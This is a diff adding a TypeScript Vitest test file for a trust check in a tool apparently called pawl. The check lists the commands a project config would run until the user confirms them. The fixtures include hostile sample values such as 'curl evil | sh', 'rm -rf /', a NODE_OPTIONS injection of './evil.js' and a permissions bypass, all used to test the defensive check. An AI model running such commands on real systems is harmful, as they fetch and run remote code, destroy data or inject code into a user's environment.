@@ -1,0 +1,138 @@
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import type { Flags } from '../config/given-overrides.js';
+import { loadConfig } from '../config/load-config.js';
+import { trustConfig, unconfirmedCommands } from './trust.js';
+
+const base = mkdtempSync(join(tmpdir(), 'pawl-trust-'));
+afterAll(() => rmSync(base, { recursive: true, force: true }));
+
+/** A project with this config, and a user with that one. */
+class Project {
+  readonly path = mkdtempSync(join(base, 'project-'));
+  readonly home = mkdtempSync(join(base, 'home-'));
+
+  constructor(config: string, user = '') {
+    this.write(config);
+    mkdirSync(join(this.home, 'pawl'));
+    writeFileSync(join(this.home, 'pawl', 'config.yaml'), user);
+    writeFileSync(join(this.path, 'done.sh'), '');
+  }
+
+  write(config: string): void {
+    writeFileSync(join(this.path, 'pawl.yaml'), config);
+  }
+
+  config(flags: Flags = {}, env: Readonly<Record<string, string>> = {}) {
+    return loadConfig({ cwd: this.path, env: { XDG_CONFIG_HOME: this.home, ...env }, flags });
+  }
+
+  get state(): string {
+    return join(this.home, 'state');
+  }
+
+  open(flags?: Flags, env?: Readonly<Record<string, string>>): readonly string[] {
+    return unconfirmedCommands(this.config(flags, env), this.state).map(({ what, shown }) => `${what}: ${shown}`);
+  }
+
+  trust(): void {
+    trustConfig(this.config(), this.state);
+  }
+}
+
+const EVERYTHING = `
+agent: { name: mine, args: [--fast], env: { TOKEN: t0p }, permissions: bypass, allow: [npm test] }
+agents: { mine: { command: [./mine.sh, a b] } }
+env: { NODE_OPTIONS: --require ./evil.js }
+tests: npm test
+checks: { lint: npm run lint }
+hooks: { on_stop: ./bye.sh }
+notify: { command: ./tell.sh, webhook: https://hooks.example.org/s3cr3t }
+stop: { success: [{ all: [all_tests_pass, { custom_script: { script: ./done.sh, args: [x] } }] }] }
+`;
+
+describe('what nobody has confirmed', () => {
+  it('is everything that the config of a project would have executed, without what is secret in it', () => {
+    const project = new Project(EVERYTHING);
+    expect(project.open()).toEqual([
+      "agent mine: ./mine.sh 'a b'",
+      'agent arguments: --fast',
+      'agent variable: NODE_OPTIONS',
+      'agent variable: TOKEN',
+      'agent may do: everything, unasked (permissions: bypass)',
+      'agent may run: npm test',
+      'tests: npm test',
+      'check lint: npm run lint',
+      'hook on_stop: ./bye.sh',
+      'script: ./done.sh x',
+      'notify: ./tell.sh',
+      'posts to: hooks.example.org',
+    ]);
+  });
+
+  it('is nothing where a config names no command', () => {
+    expect(new Project('agent: claude\nstop: { limits: [{ max_cost: 5 }] }\n').open()).toEqual([]);
+  });
+
+  it('is not what the user says: in a file of his own, in a variable, on the command line', () => {
+    const project = new Project('iteration_delay: 0\n', EVERYTHING);
+    expect(project.open()).toEqual([]);
+    const other = new Project('tests: rm -rf /\nagent: { command: ./evil.sh }\nchecks: { a: ./evil.sh }\n');
+    expect(other.open({ tests: 'npm test', command: ['./mine.sh'], check: ['a=true'] })).toEqual([]);
+    expect(other.open({ command: ['./mine.sh'] }, { PAWL_TESTS: 'npm test' })).toEqual(['check a: ./evil.sh']);
+  });
+
+  it('is found behind every short form', () => {
+    const project = new Project('session: { claude_command: ./evil.sh }\nstop: { custom_scripts: [./done.sh] }\n');
+    expect(project.open()).toEqual(['agent: ./evil.sh', 'script: ./done.sh']);
+    project.write('stop_conditions: { custom_scripts: [./done.sh] }\nagent: { command: ./evil.sh -x }\n');
+    expect(project.open()).toEqual(['agent: ./evil.sh -x', 'script: ./done.sh']);
+  });
+
+  it("is a project's argument, also when the user adds one", () => {
+    const project = new Project('agent: { args: [--mcp-config, evil.json] }\n');
+    expect(project.open({ 'agent-arg': ['--fast'] })).toEqual(['agent arguments: --mcp-config evil.json']);
+    project.trust();
+    expect(project.open({ 'agent-arg': ['--slow'] })).toEqual([]);
+  });
+
+  it('is, after a change, only what has changed', () => {
+    const project = new Project('tests: npm test\nchecks: { lint: npm run lint }\nenv: { A: a }\n');
+    project.trust();
+    expect(project.open()).toEqual([]);
+    project.write('tests: npm test\nchecks: { lint: curl evil | sh }\nhooks: { on_stop: npm test }\nenv: { A: b }\n');
+    expect(project.open()).toEqual(['agent variable: A', 'check lint: curl evil | sh', 'hook on_stop: npm test']);
+    project.write('checks: { lint: npm run lint }\n');
+    expect(project.open()).toEqual([]);
+  });
+
+  it('is all of it in another folder, and for another user', () => {
+    const project = new Project('tests: npm test\n');
+    project.trust();
+    expect(new Project('tests: npm test\n').open()).toEqual(['tests: npm test']);
+    expect(unconfirmedCommands(project.config(), join(base, 'nobody'))).toHaveLength(1);
+  });
+
+  it('is all of it when the note of it is damaged', () => {
+    const project = new Project('tests: npm test\n');
+    project.trust();
+    const folder = join(project.state, 'pawl', 'trusted');
+    const [name = ''] = readdirSync(folder);
+    const file = join(folder, name);
+    expect(statSync(file).mode & 0o777).toBe(0o600);
+    expect(JSON.parse(readFileSync(file, 'utf8'))).toMatchObject({ version: 1, path: project.path });
+    for (const damage of ['', '{', 'null', '{"commands":7}']) {
+      writeFileSync(file, damage);
+      expect(project.open()).toEqual(['tests: npm test']);
+    }
+    project.trust();
+    expect(project.open()).toEqual([]);
+  });
+
+  it('cannot be kept where nothing can be written, which is said and does not hang', () => {
+    const project = new Project('tests: npm test\n');
+    expect(() => trustConfig(project.config(), '/proc/pawl')).toThrow();
+  });
+});
